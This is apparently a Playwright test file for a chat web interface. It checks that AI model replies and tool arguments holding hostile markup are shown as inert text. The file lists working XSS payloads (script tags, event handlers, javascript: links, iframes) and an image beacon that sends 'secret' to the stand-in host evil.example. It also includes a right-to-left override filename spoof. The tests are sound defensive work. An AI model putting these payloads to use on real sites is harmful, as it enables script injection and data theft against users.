"""Text from a model, or from what it read, is text: it makes no elements and asks no other host."""

import pytest
from playwright.async_api import expect

from tests.stage import executes, says
from tests.web.visitor import Visitor

MARK = "https://evil.example/"
HOSTILE = [
    "<script>document.title='owned'</script>",
    "<img src=x onerror=\"document.title='owned'\">",
    f"![pixel]({MARK}leak?d=secret)",
    f"<iframe src='{MARK}'></iframe><object data='{MARK}'></object>",
    "<svg onload=\"document.title='owned'\"><animate onbegin=alert(1)></svg>",
    "[click](javascript:document.title='owned') [two](JaVaScRiPt&#58;alert(1)) [three](data:text/html,x)",
    f"<style>@import '{MARK}x.css'; body {{ display: none }}</style><link rel=stylesheet href='{MARK}y.css'>",
    f"<form action='{MARK}'><input autofocus onfocus=alert(1)></form><base href='{MARK}'>",
    f"| a |\n|---|\n| <img src='{MARK}t.png' onerror=alert(1)> |",
    f"```html\n<script src='{MARK}s.js'></script>\n```",
    f"[x]: {MARK} 'title\"><script>alert(1)</script>'\n\n[x] ![x]",
    "<details open ontoggle=\"document.title='owned'\"><summary>x</summary></details>",
]


async def test_no_hostile_text_runs_loads_or_is_reported(visitor: Visitor) -> None:
    await visitor.stage.script(says(*[f"{each}\n\n" for each in HOSTILE], "The end."))
    await visitor.go("/")
    await visitor.say("<img src=x onerror=\"document.title='owned'\">")
    await visitor.finished()
    await expect(visitor.reply).to_contain_text("The end.")
    thread = visitor.page.get_by_role("log")
    for element in ("script", "iframe", "object", "form", "style", "link", "base", "img", "video"):
        await expect(thread.locator(element)).to_have_count(0)
    assert await visitor.page.title() != "owned"
    links = await thread.locator("a").evaluate_all("(all) => all.map((each) => [each.protocol, each.rel, each.target])")
    assert links
    assert {tuple(each) for each in links} == {("https:", "noopener noreferrer nofollow ugc", "_blank")}
    assert visitor.complaints == []
    assert visitor.foreign == []


@pytest.mark.parametrize("text", ["<b onclick=alert(1)>", "\u202egnp.exe", "x" * 5_000])
async def test_hostile_arguments_and_results_are_shown_as_they_are(visitor: Visitor, text: str) -> None:
    await visitor.stage.script(executes("list_repositories", {"visibility": text}), says("Done."))
    await visitor.go("/")
    await visitor.say(text)
    await visitor.finished()
    await visitor.reply.locator("summary", has_text="List repositories").click()
    await expect(visitor.reply.get_by_role("region", name="Input")).to_contain_text(text[:100])
    await expect(visitor.page.get_by_role("log").locator("b")).to_have_count(0)
